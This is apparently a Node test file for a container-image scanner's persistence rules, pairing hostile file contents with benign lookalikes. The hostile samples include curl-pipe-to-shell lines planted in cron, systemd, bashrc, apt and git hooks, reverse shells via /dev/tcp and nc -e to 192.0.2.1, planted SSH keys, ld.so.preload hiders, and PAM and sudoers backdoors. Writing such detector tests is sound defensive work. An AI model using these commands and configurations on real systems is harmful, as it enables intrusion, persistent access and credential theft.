import assert from 'node:assert/strict';
import { test } from 'node:test';
import { elfOf } from '../../../test/builders/elf.ts';
import { inspectAll, rulesOf, type InspectedSpec } from '../../../test/builders/inspected.ts';
import { persistence } from './persistence.ts';

const elf = elfOf({ libraries: ['libc.so.6'], type: 2 });
const other = Buffer.concat([elf, Buffer.from('another')]);

const rules = (files: readonly InspectedSpec[], environment: readonly string[] = []): Promise<readonly string[]> =>
  rulesOf(persistence, files, { environment });

/** One file whose content is hostile, and the nearest content that is not. */
const pairs: readonly (readonly [rule: string, path: string, hostile: string, honest: string])[] = [
  [
    'fetched-program',
    'etc/cron.d/x',
    "*/5 * * * * root cu''rl -s 192.0.2.1/a | s\\h\n",
    '*/5 * * * * root curl -s 192.0.2.1/a -o /dev/null\n',
  ],
  [
    'fetched-program',
    'var/spool/cron/crontabs/root',
    '@reboot wget -qO /usr/bin/a http://192.0.2.1/a; chmod +x /usr/bin/a; /usr/bin/a\n',
    '@reboot wget -qO /srv/list http://192.0.2.1/a; wc -l /srv/list\n',
  ],
  [
    'fetched-program',
    'etc/cron.daily/update',
    '#!/bin/sh\nu=http://192.0.2.1/a\ncurl -s $u > /opt/a\nsh /opt/a\n',
    '#!/bin/sh\nu=http://192.0.2.1/a\ncurl -s $u > /opt/a\ncat /opt/a\n',
  ],
  [
    'fetched-program',
    'etc/systemd/system/a.service',
    '[Service]\nExecStart=-/bin/sh -c "curl -s http://192.0.2.1/a \\\n| sh"\n',
    '[Service]\nExecStart=-/bin/sh -c "curl -s http://192.0.2.1/a \\\n| wc"\n',
  ],
  [
    'fetched-program',
    'root/.bashrc',
    'export A=1\n(curl -s http://192.0.2.1/a | bash) &\n',
    'export A=1\n(curl -s http://192.0.2.1/a | less) &\n',
  ],
  [
    'fetched-program',
    'root/.bashrc',
    "PROMPT_COMMAND='curl -s http://192.0.2.1/a | bash'\n",
    "PROMPT_COMMAND='echo a'\n",
  ],
  [
    'fetched-program',
    'etc/apt/apt.conf.d/99x',
    'DPkg::Post-Invoke {"true"; "wget -qO- 192.0.2.1/a | sh || true";};\n',
    'DPkg::Post-Invoke {"rm -f /var/cache/apt/*.bin || true";};\n// "wget -qO- 192.0.2.1/a | sh";\n',
  ],
  [
    'fetched-program',
    'etc/logrotate.d/x',
    '/var/log/x {\n  postrotate\n    curl 192.0.2.1/a | sh\n  endscript\n}\n',
    '/var/log/x {\n  postrotate\n    kill -HUP 1\n  endscript\n}\n',
  ],
  [
    'fetched-program',
    'etc/update-motd.d/10-x',
    '#!/bin/sh\nwget -qO- 192.0.2.1/a | sh\n',
    '#!/bin/sh\nwget -qO- 192.0.2.1/a | head\n',
  ],
  [
    'fetched-program',
    'srv/app/.git/hooks/post-merge',
    '#!/bin/sh\ncurl 192.0.2.1/a | sh\n',
    '#!/bin/sh\ncurl 192.0.2.1/a\n',
  ],
  [
    'fetched-program',
    'etc/inittab',
    'x:2345:respawn:/bin/sh -c "curl 192.0.2.1/a|sh"\n',
    'x:2345:respawn:/sbin/getty 38400 tty1\n',
  ],
  [
    'fetched-program',
    'etc/modprobe.d/x.conf',
    'install dummy /bin/sh -c "curl 192.0.2.1/a|sh"\n',
    'install dummy /bin/true\n',
  ],
  ['decoded-program', 'etc/profile.d/x.sh', 'echo aWQgLXU= | base64 -d | sh\n', 'echo aWQgLXU= | base64 -d > /etc/x\n'],
  [
    'remote-shell',
    'etc/rc.local',
    '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\nexit 0\n',
    '#!/bin/sh\nbash -c "echo a" >& /dev/null 0>&1\nexit 0\n',
  ],
  [
    'remote-shell',
    'etc/udev/rules.d/9-x.rules',
    'ACTION=="add", RUN+="/bin/nc -e /bin/sh 192.0.2.1 443"\n',
    'ACTION=="add", RUN+="/bin/nc -z 192.0.2.1 443"\n',
  ],
  ['hidden-program', 'etc/cron.d/x', '@hourly root /usr/lib/.cache2/upd -q\n', '@hourly root /usr/lib/cache2/upd -q\n'],
  [
    'hidden-program',
    'usr/lib/systemd/system/n.service',
    '[Service]\nExecStart=@/dev/shm/n n -c /x\n',
    '[Service]\nExecStart=@/usr/sbin/n n -c /dev/shm/n\n',
  ],
  ['hidden-program', 'etc/crontabs/root', '* * * * * cd /var/tmp && ./run\n', '* * * * * cd /var/lib/x && ./run\n'],
  ['hidden-program', 'etc/anacrontab', '1 5 job nice /tmp/x\n', '1 5 job nice run-parts /etc/cron.daily\n'],
  [
    'plants-key',
    'etc/cron.hourly/k',
    '#!/bin/sh\necho "ssh-rsa AAAAB3 x" >> /root/.ssh/authorized_keys\n',
    '#!/bin/sh\nwc -l /root/.ssh/authorized_keys\n',
  ],
  [
    'plants-preload',
    'etc/init.d/x',
    '#!/bin/sh\necho /usr/lib/x.so > /etc/ld.so.preload\n',
    '#!/bin/sh\ncat /etc/ld.so.preload\n',
  ],
  ['variable-runs-code', 'etc/environment', 'BASH_ENV=/var/tmp/.e\n', 'BASH_ENV=/etc/bash_env\n'],
  [
    'preload-odd-place',
    'etc/systemd/system/a.service',
    '[Service]\nEnvironment="A=b" "LD_PRELOAD=/tmp/a.so"\n',
    '[Service]\nEnvironment="A=b" "LD_PRELOAD=/usr/lib/libjemalloc.so.2"\n',
  ],
  ['library-folder', 'etc/ld.so.conf.d/x.conf', '/dev/shm/lib\n', '/usr/local/lib\n'],
  [
    'program-format',
    'etc/binfmt.d/x.conf',
    ':x:M::\\x7fELF::/tmp/.i:OC\n',
    ':x:M::\\x7fELF::/usr/bin/qemu-arm-static:OC\n',
  ],
  [
    'blackholed-host',
    'etc/hosts',
    '127.0.0.1 localhost\n0.0.0.0 security.debian.org\n',
    '127.0.0.1 localhost\n0.0.0.0 ads.example\n',
  ],
  ['redirected-host', 'etc/hosts', '192.0.2.7 registry-1.docker.io\n', '192.0.2.7 registry.internal.example\n'],
  ['shell-in-odd-place', 'etc/passwd', 'root:x:0:0:root:/root:/tmp/sh\n', 'root:x:0:0:root:/root:/bin/sh\n'],
  [
    'second-root-locked',
    'etc/passwd',
    'root:x:0:0::/root:/bin/sh\nsync2:x: 00:0::/:/bin/sh\n',
    'root:x:0:0::/root:/bin/sh\nsync2:x:1000:0::/:/bin/sh\n',
  ],
  [
    'password-in-account-list',
    'etc/passwd',
    'bob:$6$abcdefgh$abcdefghijkl:1001:1001::/home/bob:/bin/sh\n',
    'bob:x:1001:1001::/home/bob:/bin/sh\n',
  ],
  ['system-account-in-group', 'etc/group', 'sudo:x:27:www-data\n', 'adm:x:4:www-data\nsudo:x:27:ubuntu\n'],
  [
    'sudo-for-system-account',
    'etc/sudoers.d/x',
    'www-data ALL=(ALL:ALL) NOPASSWD: ALL\n',
    'www-data ALL=(root) NOPASSWD: /usr/sbin/nginx -s reload\n',
  ],
  [
    'sudo-for-everybody',
    'etc/sudoers',
    'ALL ALL=(ALL) NOPASSWD:ALL\n',
    '# ALL ALL=(ALL) NOPASSWD:ALL\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n',
  ],
  [
    'sudo-keeps-preload',
    'etc/sudoers',
    'Defaults env_keep += "LD_PRELOAD"\n',
    'Defaults env_reset\nDefaults env_keep += "HOME"\n',
  ],
  ['sudo-reads-odd-place', 'etc/sudoers', '#includedir /usr/lib/.s\n', '@includedir /etc/sudoers.d\n'],
  [
    'key-for-root',
    'root/.ssh/authorized_keys',
    `ssh-ed25519 ${'A'.repeat(68)} me@there.example\n`,
    '# keys come at run time\n',
  ],
  ['key-for-service-account', 'var/lib/postgresql/.ssh/authorized_keys', `ssh-ed25519 ${'A'.repeat(68)}\n`, '\n'],
  ['key-outside-homes', 'etc/ssh/authorized_keys.d/all', `no-pty ssh-rsa ${'A'.repeat(80)} x\n`, '#\n'],
  [
    'ssh-keys-in-odd-place',
    'etc/ssh/sshd_config',
    'AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k\n',
    'AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\n',
  ],
  [
    'ssh-without-password',
    'etc/ssh/sshd_config.d/x.conf',
    'PermitEmptyPasswords yes\n',
    '#PermitEmptyPasswords yes\nPermitEmptyPasswords no\n',
  ],
  [
    'login-permits-everybody',
    'etc/pam.d/sshd',
    'auth sufficient pam_permit.so\n@include common-auth\n',
    'auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n',
  ],
  [
    'login-gives-password-away',
    'etc/pam.d/common-auth',
    'auth optional pam_exec.so quiet expose_authtok /usr/bin/notify\n',
    'session optional pam_motd.so motd=/run/motd.dynamic\n',
  ],
  [
    'login-runs-hidden-program',
    'etc/pam.d/su',
    'auth sufficient /usr/share/.p/pam_x.so\n',
    'auth sufficient /lib/x86_64-linux-gnu/security/pam_rootok.so\n',
  ],
  [
    'login-module-elsewhere',
    'etc/pam.d/su',
    'auth sufficient /usr/share/p/pam_x.so\n',
    'auth sufficient pam_rootok.so\n',
  ],
  [
    'kernel-module-recipe',
    'opt/k/Makefile',
    'obj-m += k.o\nall:\n\tmake -C /lib/modules/$(shell uname -r)/build M=$(PWD)\n',
    'objs += k.o\nall:\n\tcc -o k k.c\n',
  ],
];

for (const [rule, path, hostile, honest] of pairs)
  test(`${rule} in ${path}: ${hostile.trim().split('\n').at(-1)}`, async () => {
    assert.ok(
      (await rules([{ path, content: hostile }])).includes(rule),
      (await rules([{ path, content: hostile }])).join(),
    );
    assert.deepEqual(
      (await rules([{ path, content: honest }])).filter((found) => found === rule),
      [],
    );
  });

test('what distributions ship of all this is silent', async () => {
  const shipped: Readonly<Record<string, string>> = {
    'etc/crontab':
      'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n',
    'etc/cron.d/e2scrub_all':
      '30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n',
    'etc/passwd':
      'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n_apt:x:100:65534::/nonexistent:/usr/sbin/nologin\npostgres:x:999:999::/var/lib/postgresql:/bin/bash\n',
    'etc/shadow': 'root:*:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\npostgres:!:19700::::::\n',
    'etc/pam.d/other': '@include common-auth\n@include common-account\n',
    'etc/profile':
      'if [ -d /etc/profile.d ]; then\n  for i in $(run-parts --list /etc/profile.d); do\n    if [ -r $i ]; then . $i; fi\n  done\nfi\n',
    'etc/apt/apt.conf.d/docker-clean':
      'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"; };\n',
    'lib/systemd/system/cron.service':
      '[Service]\nEnvironmentFile=-/etc/default/cron\nExecStart=/usr/sbin/cron -f $EXTRA_OPTS\n',
    'etc/hosts': '127.0.0.1 localhost\n::1 localhost ip6-localhost\n',
    'etc/ssh/sshd_config':
      'Include /etc/ssh/sshd_config.d/*.conf\n#PermitRootLogin prohibit-password\nUsePAM yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n',
  };
  const files = Object.entries(shipped).map(([path, content]) => ({ path, content }));
  const { findings, observations } = await inspectAll(persistence, files);
  assert.deepEqual(findings, []);
  // Of all these only the accounts leave facts.
  assert.deepEqual(
    observations.map(({ path }) => path),
    ['etc/passwd'],
  );
});

test('a second root that can log in is worse than one that cannot', async () => {
  const passwd = { path: 'etc/passwd', content: 'root:x:0:0::/root:/bin/sh\nsvc:x:0:0::/:/bin/bash\n' };
  const shadow = { path: 'etc/shadow', content: 'root:*:1::::::\nsvc:$6$abcdefgh$0123456789abcdef:1::::::\n' };
  assert.deepEqual(await rules([passwd, shadow]), ['second-root']);
  assert.deepEqual(await rules([passwd]), ['second-root-locked']);
  assert.deepEqual(await rules([{ ...passwd, hidden: true }, shadow]), [], 'a replaced list counts no more');
  assert.ok(!JSON.stringify((await inspectAll(persistence, [passwd, shadow])).findings).includes('0123456789abcdef'));
});

test('an account of the system with a password and a shell, and with neither', async () => {
  const accounts = (shell: string): string =>
    `root:x:0:0::/root:/bin/sh\nlp:x:7:7::/:${shell}\nbin:x:2:2::/:/usr/sbin/nologin\nsys:x:3:3::/:/usr/sbin/nologin\nman:x:6:6::/:/usr/sbin/nologin\n`;
  const shadow = { path: 'etc/shadow', content: 'lp:$y$j9T$abcdefghijklmnop:1::::::\n' };
  assert.deepEqual(await rules([{ path: 'etc/passwd', content: accounts('/bin/bash') }, shadow]), [
    'system-account-password',
  ]);
  assert.deepEqual(await rules([{ path: 'etc/passwd', content: accounts('/bin/bash') }]), ['service-account-shell']);
  assert.deepEqual(await rules([{ path: 'etc/passwd', content: accounts('/usr/sbin/nologin') }, shadow]), []);
});

test('empty passwords of root and an SSH server that accepts them', async () => {
  const server = { path: 'etc/ssh/sshd_config', content: 'PermitEmptyPasswords yes\n' };
  assert.deepEqual(await rules([server, { path: 'etc/shadow', content: 'root::1::::::\n' }]), ['ssh-open-root']);
  assert.deepEqual(await rules([server, { path: 'etc/shadow', content: 'root:*:1::::::\n' }]), [
    'ssh-without-password',
  ]);
});

test('a program that the timetable names and the image holds is told with both', async () => {
  const cron = { path: 'etc/cron.d/x', content: '@daily root /opt/x/job --quiet\n' };
  assert.deepEqual(await rules([cron]), []);
  const { findings } = await inspectAll(persistence, [
    cron,
    { path: 'opt/x/job', content: '#!/bin/sh\n', mode: 0o755 },
  ]);
  assert.deepEqual(
    findings.map(({ rule, severity, evidence }) => [
      rule,
      severity,
      evidence.map((proof) => ('path' in proof ? proof.path : '')),
    ]),
    [['persistence/scheduled-program', 'low', ['etc/cron.d/x', 'opt/x/job']]],
  );
});

test('a unit that a person wrote is told with its program, one that a package brings is not', async () => {
  const content = '[Service]\nExecStart=-/usr/bin/netd6 -q\n';
  const program = { path: 'usr/bin/netd6', content: other, mode: 0o755 };
  assert.deepEqual(await rules([{ path: 'etc/systemd/system/netd6.service', content }, program]), ['service-program']);
  assert.deepEqual(await rules([{ path: 'lib/systemd/system/netd6.service', content }, program]), []);
  assert.deepEqual(await rules([{ path: 'etc/systemd/system/netd6.service', content }]), []);
});

test('a forced command of a key is read like any other', async () => {
  const key = (command: string): InspectedSpec => ({
    path: 'home/git/.ssh/authorized_keys',
    content: `command="${command}",no-pty ssh-ed25519 ${'A'.repeat(68)} git\n`,
  });
  assert.deepEqual(await rules([key('/usr/bin/gitea serv key-1')]), ['key-for-user']);
  assert.deepEqual(await rules([key('curl 192.0.2.1/a | sh')]), ['fetched-program', 'key-for-user']);
});

test('padding before the hostile line is told', async () => {
  assert.deepEqual(await rules([{ path: 'etc/cron.d/x', content: '#\n'.repeat(140_000) }]), ['too-large-to-read']);
});

test('scripts of other languages are no shell scripts', async () => {
  const line = 'curl http://192.0.2.1/a | sh\n';
  assert.deepEqual(await rules([{ path: 'etc/cron.daily/x', content: `#!/usr/bin/env python3\n${line}` }]), []);
  assert.deepEqual(await rules([{ path: 'etc/cron.daily/x', content: `#!/usr/bin/env bash\n${line}` }]), [
    'fetched-program',
  ]);
});

test('members of archives arrange nothing', async () => {
  const content = '@daily root curl 192.0.2.1/a | sh\n';
  assert.deepEqual(await rules([{ path: 'srv/backup.tar!/etc/cron.d/x', content }]), []);
  assert.deepEqual(await rules([{ path: 'etc/backup.tar!/etc/cron.d/x', content }]), []);
});

test('a secret in a shown line is not shown', async () => {
  const content = '@daily root curl -u a:b --password hunter2hunter2 http://me:hunter3hunter3@192.0.2.1/a | sh\n';
  const { findings } = await inspectAll(persistence, [{ path: 'etc/cron.d/x', content }]);
  assert.equal(findings.length, 1);
  assert.doesNotMatch(JSON.stringify(findings), /hunter[23]hunter/);
});

const shell = { path: 'usr/bin/dash', content: elf, mode: 0o755 };

test('a setuid copy of a shell under any name; su and a group of games are none', async () => {
  assert.deepEqual(await rules([shell, { path: 'usr/lib/x/fmt', content: elf, mode: 0o4755 }]), [
    'renamed-shell',
    'setuid-shell',
  ]);
  assert.deepEqual(await rules([{ ...shell, mode: 0o4755 }]), ['setuid-shell']);
  assert.deepEqual(
    await rules([
      shell,
      { path: 'usr/bin/su', content: other, mode: 0o4755 },
      { path: 'usr/games/x', content: other, mode: 0o2755 },
    ]),
    [],
  );
  assert.deepEqual(await rules([{ path: 'usr/bin/vim.basic', content: other, mode: 0o4755 }]), ['setuid-tool']);
  assert.deepEqual(await rules([{ path: 'var/tmp/x', content: other, mode: 0o4755 }]), [
    'binary-in-temporary-folder',
    'setuid-in-odd-place',
  ]);
  assert.deepEqual(await rules([{ path: 'opt/x/helper', content: other, mode: 0o4755 }]), ['setuid-outside-packages']);
});

/** Revision 2 with the effective bit: permitted rights in two words. */
const rights = (...numbers: readonly number[]): Uint8Array => {
  const value = Buffer.alloc(20);
  value.writeUInt32LE(0x02000001, 0);
  for (const number of numbers)
    value.writeUInt32LE(
      (value.readUInt32LE(4 + (number >> 5) * 8) | (1 << (number & 31))) >>> 0,
      4 + (number >> 5) * 8,
    );
  return value;
};

test('capabilities count on interpreters and in odd places, not on ping', async () => {
  const given = (path: string, value: Uint8Array): InspectedSpec => ({
    path,
    content: other,
    mode: 0o755,
    xattrs: { 'security.capability': value },
  });
  assert.deepEqual(await rules([given('usr/bin/python3.11', rights(7))]), ['capable-interpreter']);
  assert.deepEqual(await rules([given('usr/bin/python3.11', rights(10))]), []);
  assert.deepEqual(await rules([given('usr/bin/ping', rights(13))]), []);
  assert.deepEqual(await rules([given('usr/bin/newuidmap', rights(7))]), []);
  assert.deepEqual(await rules([given('usr/lib/.x/y', rights(21))]), ['capable-in-odd-place', 'hidden-binary']);
  assert.deepEqual(await rules([given('usr/bin/python3.11', rights(7).subarray(0, 9))]), []);
});

test('a shell under another name, its own names, and what a lower layer held', async () => {
  assert.deepEqual(await rules([shell, { path: 'opt/x/updater', content: elf, mode: 0o755 }]), ['renamed-shell']);
  assert.deepEqual(
    await rules([
      { ...shell, hidden: true },
      { path: 'opt/x/updater', content: elf, mode: 0o755 },
    ]),
    ['renamed-shell'],
  );
  assert.deepEqual(
    await rules([shell, { path: 'usr/bin/sh', content: elf, mode: 0o755 }, { path: 'opt/x/sh', content: elf }]),
    [],
  );
  assert.deepEqual(
    await rules([
      { path: 'usr/bin/python3.11', content: elf },
      { path: 'opt/venv/bin/python', content: elf },
    ]),
    [],
  );
  assert.deepEqual(
    await rules([
      { path: 'usr/bin/curl', content: elf },
      { path: 'usr/bin/cdl', content: elf },
    ]),
    ['renamed-shell'],
  );
  const left = { path: 'var/tmp/1f2e', content: elf };
  const curl = { path: 'usr/bin/curl', content: elf };
  assert.ok((await rules([curl, left])).includes('renamed-shell-in-odd-place'));
  assert.ok(!(await rules([curl, { ...left, hidden: true }])).includes('renamed-shell-in-odd-place'));
  assert.ok(!(await rules([curl, { path: 'tmp/curl-8.1', content: elf }])).includes('renamed-shell-in-odd-place'));
});

test('names that are made to be overlooked, and hidden folders that tools make', async () => {
  const program = (path: string): InspectedSpec => ({ path, content: other, mode: 0o755 });
  for (const path of ['usr/lib/.../x', 'usr/share/ /x', 'usr/bin/ls '])
    assert.deepEqual(await rules([program(path)]), ['overlooked-name'], path);
  assert.deepEqual(await rules([program('usr/lib/.x/y')]), ['hidden-binary']);
  assert.deepEqual(await rules([program('var/tmp/.x')]), ['hidden-binary']);
  const severities = async (path: string): Promise<readonly string[]> =>
    (await inspectAll(persistence, [program(path)])).findings.map(({ severity }) => severity);
  assert.deepEqual(await severities('root/.ssh/agent'), ['medium']);
  assert.deepEqual(await severities('root/.some-tool/bin/x'), ['low']);
  assert.deepEqual(await severities('dev/shm/.x/y'), ['high']);
  for (const path of [
    'app/node_modules/.bin/x',
    'root/.cargo/bin/x',
    'app/.venv/bin/x',
    'usr/lib/python3/numpy/.libs/x',
    'home/a/.tool',
  ])
    assert.deepEqual(await rules([program(path)]), [], path);
});

test('a program called like the system in a place where it is not', async () => {
  const program = (path: string): InspectedSpec => ({ path, content: other, mode: 0o755 });
  assert.deepEqual(await rules([program('var/sbin/bash')]), ['misplaced-system-name']);
  assert.deepEqual(await rules([{ path: 'var/sbin/bash', content: '#!/bin/sh\n', mode: 0o755 }]), [
    'misplaced-system-name',
  ]);
  for (const path of ['usr/bin/kworker', 'opt/kdevtmpfsi', 'usr/lib/kthreaddk', 'srv/[kswapd0]'])
    assert.deepEqual(await rules([program(path)]), ['misplaced-system-name'], path);
  for (const path of [
    'usr/local/bin/bash',
    'usr/lib/apt/apt-helper',
    'opt/x/sbin/nginx',
    'usr/share/doc/x/examples/init',
    'usr/src/redis/src/redis-server',
    'usr/bin/ksmtuned',
    'usr/sbin/kexec',
  ])
    assert.deepEqual(await rules([program(path)]), [], path);
  const root = ['srv/root', 'srv/root/etc', 'srv/root/usr'].map((path) => ({
    path,
    type: 'directory' as const,
    mode: 0o755,
  }));
  assert.deepEqual(await rules([...root, program('srv/root/bin/sh')]), []);
  const deleted = [...root, program('srv/root/bin/sh')].map((spec) => ({ ...spec, hidden: true }));
  assert.deepEqual(await rules(deleted), [], 'a root folder that a later layer deletes');
  assert.deepEqual(await rules([program('srv/root/bin/sh')]), ['misplaced-system-name']);
  assert.deepEqual(await rules([{ path: 'etc/init.d/nginx', content: '#!/bin/sh\n', mode: 0o755 }]), []);
});

test('a search path that begins where it should not', async () => {
  const path = (value: string): readonly string[] => [`PATH=${value}`];
  const ls = { path: 'usr/bin/ls', content: other, mode: 0o755 };
  const own = (folder: string): InspectedSpec => ({ path: `${folder}/ls`, content: '#!/bin/sh\n', mode: 0o755 });
  assert.deepEqual(await rules([ls, own('data/x')], path('/data/x:/usr/bin')), ['path-shadows-tool']);
  assert.deepEqual(await rules([ls, own('data/x')], path('/usr/bin:/data/x')), []);
  assert.deepEqual(await rules([ls, own('usr/local/bin')], path('/usr/local/bin:/usr/bin')), ['local-shadows-tool']);
  assert.deepEqual(await rules([ls], path('/dev/shm/b:/usr/bin')), ['path-odd-folder']);
  assert.deepEqual(await rules([ls, { path: 'srv/x', type: 'directory', mode: 0o777 }], path('/srv/x:/usr/bin')), [
    'path-odd-folder',
  ]);
  assert.deepEqual(await rules([ls], path('/root/.cargo/bin:/usr/local/bin:/usr/bin')), []);
});

test('a few kernel modules without a kernel, and one outside of any', async () => {
  const modules = (count: number): readonly InspectedSpec[] =>
    Array.from({ length: count }, (_, index) => ({
      path: `lib/modules/6.1.0/kernel/${index}.ko.xz`,
      content: `x${index}`,
    }));
  assert.deepEqual(await rules(modules(2)), ['kernel-module-without-kernel']);
  assert.deepEqual(await rules(modules(12)), []);
  const mark = ['verm', 'agic='].join('');
  const module = Buffer.concat([elfOf({ type: 1 }), Buffer.from(`\0name=net\0${mark}6.1.0\0`)]);
  assert.deepEqual(await rules([{ path: 'opt/x/net.ko', content: module }]), ['stray-kernel-module']);
  assert.deepEqual(await rules([{ path: 'dev/.x/net', content: module }]), ['hidden-binary', 'hidden-kernel-module']);
  assert.deepEqual(await rules([{ path: 'opt/x/net.o', content: elfOf({ type: 1 }) }]), []);
});

test('damaged facts conclude nothing', () => {
  const subject = {
    reference: 'oci:x',
    kind: 'container',
    identity: { diffIds: [] },
    layers: [],
    inventory: [],
  } as const;
  for (const facts of [null, 'x', 7, [], {}, { place: 'unit' }, { place: 'unit', facts: 'x' }] as const)
    assert.deepEqual(
      persistence.conclude(
        subject,
        [{ path: 'x', sha256: '', size: 1, layerIndex: 0, hidden: false, facts }],
        undefined,
      ),
      [],
    );
});

/** A library that defines and uses these names, in the tables from which a loader reads them. */
const library = (defined: readonly string[], used: readonly string[]): Uint8Array => {
  const names = ['', ...defined, ...used];
  const strings = Buffer.from(`${names.join('\0')}\0`);
  const symbols = Buffer.alloc(24 * names.length);
  let at = 0;
  for (const [position, name] of names.entries()) {
    symbols.writeUInt32LE(at, 24 * position);
    if (position > 0) symbols[24 * position + 4] = 0x12;
    if (position > 0 && position <= defined.length) symbols.writeUInt16LE(7, 24 * position + 6);
    at += name.length + 1;
  }
  const hash = Buffer.alloc(12);
  hash.writeUInt32LE(1, 0);
  hash.writeUInt32LE(names.length, 4);
  const start = 64 + 2 * 56;
  const [atSymbols, atHash] = [start + strings.length, start + strings.length + symbols.length];
  const tags: readonly (readonly [number, number])[] = [
    [5, start],
    [10, strings.length],
    [6, atSymbols],
    [4, atHash],
    [0, 0],
  ];
  const dynamic = Buffer.alloc(16 * tags.length);
  for (const [position, [tag, value]] of tags.entries()) {
    dynamic.writeBigUInt64LE(BigInt(tag), 16 * position);
    dynamic.writeBigUInt64LE(BigInt(value), 16 * position + 8);
  }
  const atDynamic = atHash + hash.length;
  const total = atDynamic + dynamic.length;
  const head = Buffer.alloc(start);
  Buffer.from('7f454c46020101', 'hex').copy(head);
  head.writeUInt16LE(3, 16);
  head.writeUInt16LE(62, 18);
  head.writeUInt32LE(1, 20);
  head.writeBigUInt64LE(64n, 32);
  for (const [place, value] of [
    [52, 64],
    [54, 56],
    [56, 2],
  ] as const)
    head.writeUInt16LE(value, place);
  for (const [position, [type, from, size]] of (
    [
      [1, 0, total],
      [2, atDynamic, dynamic.length],
    ] as const
  ).entries()) {
    const entry = 64 + 56 * position;
    head.writeUInt32LE(type, entry);
    head.writeUInt32LE(5, entry + 4);
    for (const place of [8, 16, 24]) head.writeBigUInt64LE(BigInt(from), entry + place);
    for (const place of [32, 40]) head.writeBigUInt64LE(BigInt(size), entry + place);
  }
  return Buffer.concat([head, strings, symbols, hash, dynamic]);
};

const hider = library(['readdir', 'readdir64'], ['dlsym', 'strcmp']);
const allocator = library(['malloc', 'free', 'calloc', 'mallctl'], []);

test('a library that takes over the listing of folders, alone and in a preload list', async () => {
  const file = (content: Uint8Array): InspectedSpec => ({ path: 'usr/lib/libx.so.1', content });
  const list = { path: 'etc/ld.so.preload', content: '# added\n/usr/lib/libx.so.1\n' };
  assert.deepEqual(await rules([file(hider)]), ['hiding-library']);
  assert.deepEqual(await rules([file(library(['x'], ['dlsym', 'readdir', 'readdir64']))]), []);
  assert.deepEqual(await rules([list, file(hider)]), ['preloaded-hider']);
  assert.deepEqual(await rules([file(hider)], ['LD_PRELOAD=/usr/lib/libx.so.1']), ['preloaded-hider']);
  assert.deepEqual(await rules([list, file(allocator)]), ['preload-list-harmless']);
  assert.deepEqual(await rules([file(allocator)], ['LD_PRELOAD=/usr/lib/libx.so.1']), []);
  assert.deepEqual(await rules([list, file(library(['memcpy'], []))]), ['preload-list-unknown']);
  assert.deepEqual(await rules([list]), ['preload-list']);
  const many = library(['readdir', ...Array.from({ length: 30 }, (_, index) => `f${index}`)], ['dlsym']);
  assert.deepEqual(await rules([file(many)]), ['listing-library']);
});

test('a merged /usr does not part a list from its library', async () => {
  const list = { path: 'etc/ld.so.preload', content: '/lib/libx.so.1 /usr//lib/libx.so.1' };
  const { findings } = await inspectAll(persistence, [list, { path: 'usr/lib/libx.so.1', content: hider }]);
  assert.deepEqual(
    findings.map(({ rule, evidence }) => [rule, evidence.length]),
    [
      ['persistence/preloaded-hider', 2],
      ['persistence/preloaded-hider', 2],
    ],
  );
});
